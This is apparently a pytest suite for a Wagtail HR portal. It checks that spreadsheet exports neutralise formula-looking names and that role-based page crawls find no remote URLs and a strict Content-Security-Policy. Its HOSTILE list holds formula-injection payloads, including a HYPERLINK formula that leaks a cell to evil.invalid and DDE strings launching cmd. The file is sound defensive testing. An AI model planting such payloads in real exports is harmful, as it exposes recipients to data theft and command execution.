"""Issue 13 on the demo data (loaded once for the module, rolled back afterwards):

- every Wagtail list export (found from the URL map, so a new one is covered when it is added), the
  who-has-read table by unit and the gap list write formula-looking names neutralised (items 2);
- a crawl of every page each demo role reaches from its portal home and the admin, following the links
  it is shown, finds no reference to a non-local URL and a Content-Security-Policy on every response,
  without 'unsafe-inline' for scripts on the portal side (item 4).
"""

import csv
import io
import re
from collections import deque
from html.parser import HTMLParser
from io import StringIO
from urllib.parse import urljoin, urlsplit

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import ModelLogEntry, PageLogEntry

from content.acknowledgements.models import AcknowledgementRound
from portal.core.spreadsheets import FORMULA_TRIGGERS
from portal.people.models import Employee, OrgUnit
from tests.demo_snapshot import DEMO

pytestmark = pytest.mark.django_db

# What a hostile HR file or a hostile colleague could have typed as a name.
HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROLES = ["employee", "examiner", "hr", "editor", "reviewer", "admin"]


@pytest.fixture(scope="module")
def demo(django_db_setup, django_db_blocker):
    """The demo, with every employee, user, unit, acknowledgement round and history label renamed to a
    formula-looking text."""
    with django_db_blocker.unblock(), DEMO.loaded():  # the session's demo, restored; the clean database after
        for n, employee in enumerate(Employee.objects.order_by("pk")):
            Employee.objects.filter(pk=employee.pk).update(name=HOSTILE[n % len(HOSTILE)] + f" {n}")
        for n, user in enumerate(get_user_model().objects.order_by("pk")):
            get_user_model().objects.filter(pk=user.pk).update(first_name=HOSTILE[n % len(HOSTILE)], last_name="")
        for n, unit in enumerate(OrgUnit.objects.order_by("pk")):
            OrgUnit.objects.filter(pk=unit.pk).update(
                name=HOSTILE[n % len(HOSTILE)] + f" {n}", name_en=HOSTILE[(n + 1) % len(HOSTILE)] + f" {n}"
            )
        for n, round_ in enumerate(AcknowledgementRound.objects.order_by("pk")):
            AcknowledgementRound.objects.filter(pk=round_.pk).update(title=HOSTILE[n % len(HOSTILE)])
        for model in (PageLogEntry, ModelLogEntry):
            for n, entry in enumerate(model.objects.order_by("pk")):
                model.objects.filter(pk=entry.pk).update(label=HOSTILE[n % len(HOSTILE)])
        superuser = get_user_model().objects.create_superuser("hardening_root", "root@bank.invalid", "x" * 16)
        yield superuser


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _user(username):
    return get_user_model().objects.get(username=username)


# --------------------------------------------------------------------------- exports


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _csv_cells(response) -> list[str]:
    text = _body(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(_body(response)))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_neutralised(response):
    assert response.status_code == 200, response
    cells = _csv_cells(response)
    live = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _number(c)]
    assert live == []
    assert any(c.startswith("'") and c[1:].startswith(FORMULA_TRIGGERS) for c in cells), "no hostile text exported"


def assert_xlsx_neutralised(response):
    assert response.status_code == 200, response
    cells = _xlsx_cells(response)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS) for c in cells), "no hostile text"


def _walk(patterns, prefix="", namespace=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}:{pattern.namespace}" if namespace and pattern.namespace else (
                pattern.namespace or namespace)
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern, namespace


def wagtail_list_exports() -> list[str]:
    """URL names of every admin listing that offers Wagtail's CSV/Excel export."""
    names = []
    for _route, pattern, namespace in _walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)) or initkwargs.get("results_only"):
            continue
        if view_class.list_export or initkwargs.get("list_export"):
            names.append(f"{namespace}:{pattern.name}" if namespace else pattern.name)
    return sorted(set(names))


# the exports whose URL needs an object, and the object
EXPORT_ARGS = {"acknowledgement_reports:round": lambda: [AcknowledgementRound.objects.order_by("pk").first().pk]}
# listings whose demo rows carry no person's or unit's name (pages, redirects, workflows): nothing hostile to find
NO_NAMES_IN_DEMO = {
    "certification_certificates:index",
    "exams_results:index",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailredirects:index",
    "acknowledgement_reports:superseded_links",
}


def test_the_export_discovery_finds_the_portals_and_wagtails_listings():
    found = wagtail_list_exports()
    for name in ("people_employees:index", "certification_certificates:index", "certification_awards:index",
                 "certification_skill_results:index", "certification_theory_results:index", "exams_results:index",
                 "acknowledgement_reports:index", "acknowledgement_reports:round",
                 "wagtailadmin_reports:site_history"):
        assert name in found


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_wagtail_list_export_neutralises_formula_looking_names(demo, fmt):
    client = _client(demo)
    checked, problems = [], {}
    for name in wagtail_list_exports():
        url = reverse(name, args=EXPORT_ARGS[name]() if name in EXPORT_ARGS else [])
        response = client.get(url, {"export": fmt})
        if name in NO_NAMES_IN_DEMO:
            assert response.status_code == 200
            body = _body(response)
            if fmt == "csv":
                assert not [c for c in _csv_cells(response) if c.startswith(FORMULA_TRIGGERS) and not _number(c)]
            else:
                assert body[:2] == b"PK"
            continue
        try:
            (assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised)(response)
        except AssertionError as error:
            problems[name] = str(error).splitlines()[0]
        checked.append(name)
    assert problems == {}
    assert len(checked) >= 7


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_who_has_read_table_by_unit_neutralises_unit_names(demo, fmt):
    round_ = AcknowledgementRound.objects.order_by("pk").first()
    response = _client(demo).get(reverse("acknowledgement_reports:round_units", args=[round_.pk]), {"export": fmt})
    (assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised)(response)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_gap_list_export_neutralises_names(demo, fmt):
    response = _client(demo).get(reverse("certification_gaps:index"), {"export": fmt})
    (assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised)(response)


def test_the_certification_register_command_writes_names_neutralised(demo, tmp_path):
    output = tmp_path / "register.csv"
    call_command("certification_export", "grades", str(output), stdout=StringIO())
    cells = [c for row in csv.reader(io.StringIO(output.read_text("utf-8-sig"))) for c in row]
    assert [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _number(c)] == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)


# --------------------------------------------------------------------------- crawl: local URLs and CSP

SKIP = re.compile(r"/(logout|password|download|pdf|delete|unpublish|lock|unlock|revisions/\d+/revert|"
                  r"workflow/(cancel|disable))\b|[?&](export|format)=", re.I)
MAX_PAGES_PER_ROLE = 140
URL_ATTRIBUTES = {"src", "href", "srcset", "action", "poster", "data", "formaction", "xlink:href", "imagesrcset"}
CSS_URL = re.compile(r"""(?:url\(\s*["']?|@import\s+["']?)\s*((?:https?:)?//[^"')\s]+)""", re.I)
JSON_URL = re.compile(r'(?<!\\)"((?:https?:)?//[^"\s\\]+)"')  # a JSON string that is a URL (not an escaped quote)
LOCAL_HOSTS = {"testserver", "localhost", "127.0.0.1"}


class _Links(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.refs: list[tuple[str, str, str]] = []  # (tag, attribute, value)
        self.styles: list[str] = []
        self.data_scripts: list[str] = []  # <script type="application/json">: the admin sidebar's menu, etc.
        self._in_style = self._in_data = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if value is None:
                continue
            if name in URL_ATTRIBUTES:
                for part in value.split(",") if name.endswith("srcset") else [value]:
                    self.refs.append((tag, name, part.strip().split(" ")[0]))
            if name == "style":
                self.styles.append(value)
        self._in_style = tag == "style"
        self._in_data = tag == "script" and dict(attrs).get("type") == "application/json"

    def handle_endtag(self, tag):
        self._in_style = self._in_data = False

    def handle_data(self, data):
        if self._in_style:
            self.styles.append(data)
        if self._in_data:
            self.data_scripts.append(data)


def non_local(url: str) -> bool:
    url = url.strip()
    if url.startswith("//"):
        return True
    parts = urlsplit(url)
    return parts.scheme in ("http", "https", "ftp", "ws", "wss") and parts.hostname not in LOCAL_HOSTS


def test_the_link_checker_flags_remote_and_protocol_relative_urls():
    assert non_local("https://www.gravatar.com/avatar/x") and non_local("//cdn.example.com/x.js")
    assert not non_local("/static/css/portal.css") and not non_local("http://testserver/zh-hans/")
    assert not non_local("mailto:hr@bank.invalid") and not non_local("#main")


def _shape(path: str) -> str:
    """One visit per kind of page: ids become #, so 300 employees' edit pages are one shape."""
    return re.sub(r"\d+", "#", path)


def crawl(client, starts):
    """Every page reachable from ``starts`` by GET through the links shown (one per shape). Returns
    {url: (status, csp header, [non-local references])}."""
    seen, results, queue = set(), {}, deque(starts)
    while queue and len(results) < MAX_PAGES_PER_ROLE:
        url = queue.popleft()
        if _shape(url) in seen or SKIP.search(url):
            continue
        seen.add(_shape(url))
        response = client.get(url)
        refs = []
        if response.get("Content-Type", "").startswith("text/html") and not getattr(response, "streaming", False):
            parser = _Links()
            parser.feed(response.content.decode("utf-8", "replace"))
            refs = [f"{tag}[{attr}]={value}" for tag, attr, value in parser.refs if non_local(value)]
            refs += [f"style: {m}" for style in parser.styles for m in CSS_URL.findall(style)]
            refs += [f"json: {m}" for data in parser.data_scripts
                     for m in JSON_URL.findall(data.replace("\\/", "/")) if non_local(m)]
            for tag, attr, value in parser.refs:
                if tag == "a" and attr == "href" and not non_local(value):
                    target = urljoin(url, value.split("#")[0])
                    parts = urlsplit(target)
                    if parts.scheme in ("", "http") and (parts.hostname in (None, "testserver")):
                        queue.append(parts.path + (f"?{parts.query}" if parts.query else ""))
        elif response.status_code in (301, 302) and response.get("Location", "").startswith("/"):
            queue.append(response["Location"])
        results[url] = (response.status_code, response.get("Content-Security-Policy"), refs)
    return results


@pytest.mark.parametrize("role", ROLES)
def test_no_page_a_role_reaches_references_a_non_local_url_and_each_carries_the_csp(demo, role):
    results = crawl(_client(_user(role)), ["/zh-hans/", "/en/", "/admin/"])

    assert len(results) > 10
    assert {url: refs for url, (_s, _c, refs) in results.items() if refs} == {}
    assert [url for url, (_s, csp, _r) in results.items() if not csp] == []
    portal_csps = [csp for url, (_s, csp, _r) in results.items() if not url.startswith("/admin/")]
    script_src = [re.search(r"script-src ([^;]*)", csp).group(1) for csp in portal_csps]
    assert [s for s in script_src if "unsafe-inline" in s or "unsafe-eval" in s] == []
    assert [url for url, (status, _c, _r) in results.items() if status >= 500] == []


def test_the_stylesheets_and_scripts_pages_load_reference_no_non_local_url(demo):
    client = _client(_user("admin"))
    assets = set()
    for url in ("/zh-hans/", "/admin/", "/admin/pages/", "/admin/images/"):
        parser = _Links()
        parser.feed(client.get(url).content.decode())
        assets |= {value for tag, attr, value in parser.refs
                   if (tag, attr) in (("link", "href"), ("script", "src")) and value.startswith("/static/")}
    assert len(assets) > 5
    offenders = []
    for asset in sorted(assets):
        response = client.get(asset)
        assert response.status_code == 200, asset
        text = _body(response).decode("utf-8", "replace")
        offenders += [f"{asset}: {m}" for m in CSS_URL.findall(text) if non_local(m)]
    assert offenders == []
